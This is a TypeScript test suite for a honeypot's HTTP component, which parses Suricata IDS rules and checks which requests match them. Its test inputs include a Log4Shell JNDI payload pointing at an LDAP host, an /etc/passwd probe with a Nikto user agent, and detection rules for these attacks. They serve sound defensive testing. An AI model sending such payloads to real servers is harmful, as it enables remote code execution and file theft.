import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import fc from 'fast-check'
import { afterAll, describe, expect, it } from 'vitest'
import http from '../../../src/http/lure.ts'
import { RuleError } from '../../../src/http/suricata/options.ts'
import { parseRule } from '../../../src/http/suricata/rule.ts'
import { RuleSet } from '../../../src/http/suricata/rule-set.ts'
import { parseRequestHead } from '../../../src/http/wire/request-head.ts'
import { play } from '../../harness.ts'
import { ask } from '../ask.ts'
import { MemoryHosts } from '../memory-hosts.ts'

const rule = (options: string, sid = 1): string => `alert http any any -> $HOME_NET any (msg:"m"; ${options} sid:${sid}; rev:2;)`

function fits(options: string, raw: string, body = ''): boolean {
  const rules = new RuleSet()
  rules.add('x.rules', rule(options))
  expect(rules.problems).toEqual([])
  const head = parseRequestHead(Buffer.from(raw, 'latin1'))
  const path = decodeURIComponent(head.line.target.split('?')[0] ?? '')
  return rules.signaturesOf({ head, path, body: Buffer.from(body, 'latin1') }).length > 0
}

const GET =
  'GET /cgi-bin/%69d.php?x=A%20b&y=/etc/passwd HTTP/1.1\r\nHost: Www.Example.org:80\r\nUser-Agent: Nikto/2.5\r\nCookie: SID=ab12\r\n\r\n'

describe('a rule fits', () => {
  const cases: [string, boolean][] = [
    ['http.method; content:"GET"; http.uri; content:"/id.php"; ', true],
    ['http.method; content:"POST"; ', false],
    ['http.uri; content:"/ID.PHP"; ', false],
    ['http.uri; content:"/ID.PHP"; nocase; ', true],
    ['http.uri.raw; content:"/%69d.php"; ', true],
    ['http.uri; content:!"/etc/shadow"; content:"passwd"; endswith; ', true],
    ['http.uri; content:!"passwd"; ', false],
    ['http.uri; content:"/cgi-bin/"; startswith; content:"id"; distance:0; within:2; ', true],
    ['http.uri; content:"/cgi-bin/"; content:"php"; distance:0; within:3; ', false],
    ['http.uri; content:"/cgi-bin/"; content:"php"; distance:3; within:3; ', true],
    ['http.uri; content:"/cgi-bin/"; offset:1; ', false],
    ['http.uri; content:"cgi"; offset:1; depth:3; ', true],
    ['http.uri; content:"bin"; depth:4; ', false],
    ['http.user_agent; content:"Nikto"; depth:5; ', true],
    ['http.host; content:"www.example.org"; bsize:15; ', true],
    ['http.host.raw; content:"Www.Example.org|3a|80"; ', true],
    ['http.cookie; pcre:"/^SID=[a-f0-9]{4}$/"; ', true],
    ['http.cookie; pcre:!"/^SID=/"; ', false],
    ['http.header; content:"User-Agent|3a 20|"; content:"Cookie|3a|"; distance:0; ', true],
    ['http.header; content:"Cookie|3a|"; content:"User-Agent|3a|"; distance:0; ', false],
    ['http.header_names; content:"|0d 0a|Host|0d 0a|User-Agent|0d 0a|"; ', true],
    ['content:"/id.php"; http_uri; content:"Nikto"; http_user_agent; ', true],
    ['content:"x=A"; http_uri; content:"passwd"; distance:1; http_uri; ', true],
    ['content:"GET /cgi-bin"; depth:12; ', true],
    ['http.uri; pcre:"/cgi-bin\\/\\w+\\.php/Ui"; ', true],
    ['http.uri; content:"cgi-bin/"; pcre:"/^id\\.php/R"; ', true],
    ['http.uri; content:"/cgi-bin"; isdataat:5,relative; ', true],
    ['http.uri; content:"passwd"; isdataat:!1,relative; ', true],
    ['urilen:>10; http.method; content:"GET"; ', true],
    ['urilen:<10; http.method; content:"GET"; ', false],
    ['http.uri.raw; url_decode; content:"x=A b"; ', true],
    ['http.request_line; content:"GET /cgi-bin"; startswith; ', true],
  ]
  it.each(cases)('%s → %s', (options, expected) => expect(fits(options, GET)).toBe(expected))

  it('where a later place of a content leads on', () => {
    expect(fits('http.uri; content:"a"; content:"c"; distance:0; within:1; ', 'GET /ababac HTTP/1.1\r\n\r\n')).toBe(true)
    expect(fits('http.uri; content:"a"; content:"d"; distance:0; within:1; ', 'GET /ababac HTTP/1.1\r\n\r\n')).toBe(false)
  })

  it('over the bytes of a body', () => {
    const post = 'POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 9\r\n\r\n'
    expect(fits('http.request_body; content:"|ff fe 00|cmd="; ', post, '\xff\xfe\x00cmd=1')).toBe(true)
    expect(fits('content:"cmd="; http_client_body; pcre:"/cmd=\\d/P"; ', post, 'cmd=1')).toBe(true)
  })

  it('soon, whatever the text and rule', () => {
    const started = performance.now()
    fits(
      `http.request_body; ${'content:"a"; distance:0; '.repeat(30)} content:"b"; distance:0; `,
      'POST / HTTP/1.1\r\n\r\n',
      'a'.repeat(60_000),
    )
    fits('http.request_body; pcre:"/(a+)+b/"; ', 'POST / HTTP/1.1\r\n\r\n', 'a'.repeat(20_000))
    expect(performance.now() - started).toBeLessThan(2_000)
  })
})

describe('a rules file', () => {
  it('gives what it can, and says file and line of what it cannot', () => {
    const rules = new RuleSet()
    rules.add(
      'local.rules',
      [
        '# a comment',
        rule('http.uri; content:"/a"; ', 10),
        'alert dns any any -> any any (msg:"other"; dns.query; content:"x"; sid:11;)',
        'alert http any any -> any any (msg:"answer"; flow:to_client; http.stat_code; content:"200"; sid:12;)',
        rule('http.uri; content:"|zz|"; ', 13),
        rule('http.uri; content:"a"; pcre:"/(?<=a)b/"; ', 14),
        rule('http.uri; \\', 15),
        rule('byte_test:1,>,2,0; ', 16),
        rule('content:"a"; flowbits:isset,x; ', 17),
        'nonsense',
      ].join('\n'),
    )
    expect(rules.size).toBe(1)
    expect(rules.problems.map(({ file, line, key, what }) => `${file}:${line} ${key}: ${what}`)).toEqual([
      'local.rules:5 sid 13: |zz| is not hexadecimal',
      'local.rules:6 sid 14: its pcre asks for look-around, back-references or what else RE2 does not have',
      expect.stringMatching(/^local\.rules:7 sid 15: /),
      'local.rules:8 sid 16: "byte_test" is not known here',
      'local.rules:9 sid 17: it depends on another rule (flowbits)',
      'local.rules:10 rule: not a rule: action protocol source -> destination (options)',
    ])
  })

  it('of any bytes throws nothing but its own error', () => {
    const piece = fc.constantFrom(
      'alert http any any -> any any (',
      'content:',
      '"',
      '|',
      'a',
      ';',
      'http.uri;',
      'pcre:"/',
      '/R"',
      ')',
      '\\',
      'sid:1;',
      'depth:1;',
      '!',
      '(',
      ' ',
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (parts) => {
        try {
          parseRule(parts.join(''))
        } catch (error) {
          expect(error).toBeInstanceOf(RuleError)
        }
      }),
    )
  })
})

describe('the http lure', () => {
  const data = mkdtempSync(join(tmpdir(), 'sundew-rules-'))
  afterAll(() => rmSync(data, { recursive: true, force: true }))

  it('puts sid and msg of what a request fits into its event, of refused requests too', async () => {
    mkdirSync(join(data, 'suricata'))
    const lines = [
      'alert http any any -> any any (msg:"EXPLOIT jndi"; http.header; content:"${jndi:"; nocase; reference:cve,2021-44228; classtype:web-application-attack; sid:2034647; rev:3;)',
      'alert http any any -> any any (msg:"odd version"; http.protocol; content:"HTTP/1337"; sid:9000001;)',
    ]
    writeFileSync(join(data, 'suricata', 'local.rules'), `${lines.join('\n')}\n`)
    const playing = await play(http, {
      persona: 'debian-web',
      hosts: new MemoryHosts(),
      options: { suricata: ['local.rules'] },
      settings: { data },
    })
    await ask(playing, 'GET', '/', { headers: { 'X-Api': '${JNDI:ldap://192.0.2.1/a}' } })
    await ask(playing, 'GET', '/')
    await playing.exchange('GET / HTTP/1337\r\n\r\n')
    await playing.seen('http.request', 3)
    const requests = playing.events.filter(({ type }) => type === 'http.request')
    await playing.stop()
    expect(requests.map(({ data: { signatures } }) => signatures)).toEqual([
      [{ sid: 2034647, rev: 3, msg: 'EXPLOIT jndi', classtype: 'web-application-attack', cves: ['CVE-2021-44228'] }],
      undefined,
      [{ sid: 9000001, msg: 'odd version' }],
    ])
    expect(requests[0]?.tags).toEqual(expect.arrayContaining(['note:sid-2034647', 'cve:CVE-2021-44228']))
    expect(playing.deadLetters).toEqual([])
  })
})
